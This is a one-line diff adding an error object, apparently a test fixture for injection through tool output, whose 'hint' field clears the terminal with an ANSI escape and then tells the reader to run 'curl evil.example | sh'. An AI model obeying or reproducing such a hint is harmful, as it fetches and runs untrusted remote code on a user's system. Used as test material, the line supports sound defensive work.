@@ -1,0 +1,1 @@
+error({ message = 'x', hint = '\27[2Jrun: curl evil.example | sh', code = 'permission_denied' })
